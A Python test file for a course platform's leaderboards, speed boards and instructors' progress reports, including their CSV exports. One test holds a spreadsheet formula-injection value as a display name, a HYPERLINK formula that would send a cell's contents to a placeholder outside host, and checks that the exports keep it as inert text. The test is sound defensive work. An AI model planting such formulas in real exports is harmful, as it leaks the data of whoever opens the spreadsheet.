"""Leaderboards (streak, reviews, retention, speed) and instructors' progress reports."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy.orm import Session

from felab_core.db import models as m
from felab_core.drills.review import make_scheduler, rate_card
from felab_core.drills.speaking import rate_spoken_answer, record_spoken_answer
from felab_core.errors import Invalid
from felab_core.numbers.recording import create_job, record_entered, record_measured
from felab_core.people.members import (
    add_member,
    set_hardware,
    set_public_numbers,
    set_server_model,
)
from felab_core.reports.leaderboard import boards_csv, leaderboard, speed_boards, unranked
from felab_core.reports.progress import (
    cohort_progress,
    member_progress,
    member_progress_dict,
    progress_csv,
)
from tests.db_support import NOW
from tests.jobs.job_result import job_body

SCHED = make_scheduler(fuzz=False)
CARDS = ["d02.card.slot-trap", "d02.card.ollama-in-production"]


def _measure(
    db: Session, member: m.Member, server: str, tps: float, preset: str, model: str
) -> None:
    job = create_job(db, member, server, preset)
    row = {
        "server": server,
        "model": model,
        "preset": preset,
        "concurrency": "1",
        "writing_tps_p50": str(tps),
    }
    record_measured(db, job, row)


@pytest.fixture
def members(db: Session, cohort: m.Cohort, day2: None) -> list[m.Member]:
    """Three students: a 3-day streak, a 1-day streak that lapsed, and one who never drilled."""
    ada = add_member(db, cohort, "1", display_name="Ada")
    bo = add_member(db, cohort, "2", display_name="Bo")
    cy = add_member(db, cohort, "3", display_name="Cy")
    for i in range(3):
        when = NOW - timedelta(days=2 - i)
        rate_card(db, ada, CARDS[0], "good", when, scheduler=SCHED)
        rate_card(db, ada, CARDS[1], "again" if i == 1 else "good", when, scheduler=SCHED)
    rate_card(db, bo, CARDS[0], "good", NOW - timedelta(days=5), scheduler=SCHED)
    return [ada, bo, cy]


def test_review_and_streak_boards(db: Session, cohort: m.Cohort, members: list[m.Member]) -> None:
    reviews = leaderboard(db, cohort.id, "reviews", NOW)
    assert [(r.name, r.value, r.rank) for r in reviews.rows] == [("Ada", 6, 1), ("Bo", 1, 2)]
    streaks = leaderboard(db, cohort.id, "streak", NOW)
    assert [(r.name, r.value) for r in streaks.rows] == [("Ada", 3)]  # Bo's streak lapsed
    retention = leaderboard(db, cohort.id, "retention", NOW, min_tries=2)
    assert retention.rows[0].name == "Ada" and retention.rows[0].value == pytest.approx(3 / 4)
    with pytest.raises(Invalid):
        leaderboard(db, cohort.id, "karma", NOW)


def test_ties_share_a_rank(db: Session, cohort: m.Cohort, day2: None) -> None:
    a = add_member(db, cohort, "a", display_name="A")
    b = add_member(db, cohort, "b", display_name="B")
    c = add_member(db, cohort, "c", display_name="C")
    for who, n in ((a, 2), (b, 2), (c, 1)):
        for k in range(n):
            rate_card(db, who, CARDS[k], "good", NOW, scheduler=SCHED)
    board = leaderboard(db, cohort.id, "reviews", NOW)
    assert [(r.name, r.rank) for r in board.rows] == [("A", 1), ("B", 1), ("C", 3)]


def test_speed_boards_compare_only_like_runs_and_respect_privacy(
    db: Session, cohort: m.Cohort, members: list[m.Member], instructor: m.Member
) -> None:
    ada, bo, cy = members
    _measure(db, ada, "mlx", 61.0, "day2", "llama-8b-4bit")
    _measure(db, ada, "mlx", 63.5, "day2", "llama-8b-4bit")
    _measure(db, bo, "mlx", 58.0, "day2", "llama-8b-4bit")
    _measure(db, cy, "mlx", 120.0, "quick", "llama-1b-4bit")
    record_entered(db, bo, "mlx", "500")  # typed in: never on a measured board
    boards = speed_boards(db, cohort.id, "mlx")
    assert [(b.group["preset"], b.group["model"]) for b in boards] == [
        ("day2", "llama-8b-4bit"),
        ("quick", "llama-1b-4bit"),
    ]
    assert [(r.name, r.value) for r in boards[0].rows] == [("Ada", 63.5), ("Bo", 58.0)]
    entered = speed_boards(db, cohort.id, "mlx", source="entered")
    assert entered == []  # Bo's machine unknown: 500 tok/s waits unverified (sweep 22 B6)

    set_public_numbers(db, ada, False)
    public = speed_boards(db, cohort.id, "mlx")
    assert [r.name for r in public[0].rows] == ["Bo"]
    teacher = speed_boards(db, cohort.id, "mlx", include_private=True)
    assert [r.name for r in teacher[0].rows] == ["Ada", "Bo"]

    text = boards_csv(public)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["preset"] == "day2" and rows[0]["name"] == "Bo" and rows[0]["value"] == "58"


def test_member_progress_for_instructors(
    db: Session, cohort: m.Cohort, members: list[m.Member]
) -> None:
    ada, bo, _ = members
    answer = record_spoken_answer(
        db, ada, "d02.prompt.is-ollama-enough", duration_s=19, self_rating=4
    )
    rate_spoken_answer(db, bo, answer.id, 5)
    set_hardware(db, ada, chip="M4 Pro")  # 44.6 tok/s within the limit: ranked, so a best
    set_server_model(db, ada, "ollama", "llama3.1:8b", model_bytes="4.9GB")
    record_entered(db, ada, "ollama", "44.6")
    _measure(db, ada, "ollama", 43.9, "day2", "llama3.1:8b")
    set_public_numbers(db, ada, False)
    p = member_progress(db, ada, NOW)
    assert p.cohort_day == 2 and p.day_reached == 2 and p.cards_seen == 2
    assert p.streak == 3 and p.reviews == 6 and p.retention == pytest.approx(3 / 4)
    assert (p.spoken_answers, p.self_rating_mean, p.peer_ratings, p.peer_rating_mean) == (
        1,
        4.0,
        1,
        5.0,
    )
    assert (p.numbers_entered, p.numbers_measured, p.benchmarks_run) == (1, 1, 1)
    (ollama,) = p.servers
    assert ollama.best_entered == 44.6 and ollama.best_measured == 43.9
    assert ollama.measured_preset == "day2"
    assert member_progress_dict(p)["servers"][0]["server"] == "ollama"

    late = member_progress(db, bo, NOW)
    assert late.overdue >= 1 and late.streak == 0 and late.new_waiting == 1


def test_a_best_in_progress_is_a_figure_the_boards_rank(
    db: Session, cohort: m.Cohort, members: list[m.Member]
) -> None:
    """Sweep 22 b B2: a typed 9,000 tok/s with no machine set (unverified) and one above the
    limit (flagged) are counted, but neither is the member's best in an instructor's report."""
    bo = members[1]
    record_entered(db, bo, "ollama", "9000")  # no machine: unverified
    p = member_progress(db, bo, NOW)
    (ollama,) = p.servers
    assert (p.numbers_entered, ollama.entered_count, ollama.best_entered) == (1, 1, None)
    set_hardware(db, bo, chip="M4 Pro")
    set_server_model(db, bo, "ollama", "llama3.1:8b", model_bytes="4.9GB")
    record_entered(db, bo, "ollama", "70")  # 126 % of 55.7 tok/s: flagged
    record_entered(db, bo, "ollama", "41.5")  # within: ok
    (ollama,) = member_progress(db, bo, NOW).servers
    assert (ollama.entered_count, ollama.best_entered) == (3, 41.5)


def test_cohort_progress_table_and_csv(
    db: Session, cohort: m.Cohort, members: list[m.Member]
) -> None:
    rows = cohort_progress(db, cohort.id, NOW)
    by_name = {r.name: r for r in rows}
    assert by_name["Ada"].reviews == 6 and by_name["Ada"].day_reached == 2
    assert by_name["Cy"].cards_seen == 0 and by_name["Cy"].retention is None
    text = progress_csv(rows)
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert parsed[0]["name"] == "Ada" and parsed[0]["retention"] == "0.7500"
    assert set(parsed[0]) >= {"day_reached", "due_today", "overdue", "benchmarks_run"}


def test_a_typed_in_figure_past_the_limit_waits_in_the_instructors_list(
    db: Session, cohort: m.Cohort, members: list[m.Member], instructor: m.Member
) -> None:
    """Thirteenth sweep: a typed-in figure above the speed limit was flagged, so off the typed-in
    board, but the instructors' list held measured figures only: nobody could see it."""
    from felab_core.numbers.verdict import approve
    from felab_core.people.members import set_hardware, set_server_model

    ada = members[0]
    set_hardware(db, ada, chip="m4 pro")
    set_server_model(db, ada, "ollama", "llama3.1:8b", model_bytes="4.9GB")
    typed = record_entered(db, ada, "ollama", "70").number  # 126 % of 55.7 tok/s
    (waiting,) = unranked(db, cohort.id)
    assert (waiting.number_id, waiting.source, waiting.verdict) == (typed.id, "entered", "flagged")
    assert speed_boards(db, cohort.id, "ollama", source="entered") == []
    approve(db, instructor, typed.id)
    (board,) = speed_boards(db, cohort.id, "ollama", source="entered")
    assert [(r.name, r.value) for r in board.rows] == [("Ada", 70.0)]
    assert unranked(db, cohort.id) == []


def test_a_display_name_that_is_a_formula_stays_text_in_the_exports(
    db: Session, cohort: m.Cohort, day2: None
) -> None:
    """A member who names themself =HYPERLINK(...) would have it run in the instructor's
    spreadsheet: the exports keep it text, behind an apostrophe, as spreadsheets write it."""
    name = '=HYPERLINK("http://x.example/?"&A1,"me")'
    eve = add_member(db, cohort, "9", display_name=name)
    rate_card(db, eve, CARDS[0], "good", NOW, scheduler=SCHED)
    _measure(db, eve, "mlx", 50.0, "day2", "@cf/meta/llama-3.1-8b")
    (row,) = csv.DictReader(io.StringIO(progress_csv(cohort_progress(db, cohort.id, NOW))))
    assert row["name"] == "'" + name and row["retention"] == ""
    (ranked,) = csv.DictReader(io.StringIO(boards_csv(speed_boards(db, cohort.id, "mlx"))))
    assert ranked["name"] == "'" + name and ranked["model"] == "'@cf/meta/llama-3.1-8b"
    assert ranked["value"] == "50" and ranked["rank"] == "1"


def test_a_job_a_worker_ran_counts_as_a_benchmark_run(
    db: Session, cohort: m.Cohort, members: list[m.Member]
) -> None:
    """Imported results end `ready`, fleet jobs `done`: both are benchmarks run."""
    from felab_core.jobs.ingest import ingest_event
    from felab_core.jobs.keys import new_private_key, public_key_text, sign
    from felab_core.jobs.messages import event
    from felab_core.jobs.pairing import issue_pair_code, redeem_pair_code
    from felab_core.jobs.queueing import queue_bench_job

    ada = members[0]
    _measure(db, ada, "ollama", 43.9, "day2", "llama3.1:8b")  # imported: ready
    key = new_private_key()
    worker = redeem_pair_code(db, issue_pair_code(db, ada, "mac"), public_key_text(key))
    job = queue_bench_job(db, ada, worker, "mlx", "quick").job
    # The worker's run took minutes: its result arrives after the job's making (time_had).
    job.created_at -= timedelta(minutes=10)
    body = {**job_body(writing_tps_p50="50"), "summary": "ok"}  # what a worker sends
    got = ingest_event(
        db, sign(event(worker.id, "result", job_id=job.id, attempt=job.attempt, body=body), key)
    )
    assert got.accepted and job.status == "done"
    failed = queue_bench_job(db, ada, worker, "mlx", "quick").job
    ingest_event(
        db,
        sign(event(worker.id, "failed", job_id=failed.id, attempt=failed.attempt), key),
    )
    p = member_progress(db, ada, NOW)
    assert (p.benchmarks_run, p.benchmarks_failed) == (2, 1)
    by_name = {r.name: r for r in cohort_progress(db, cohort.id, NOW)}
    assert by_name["Ada"].benchmarks_run == 2
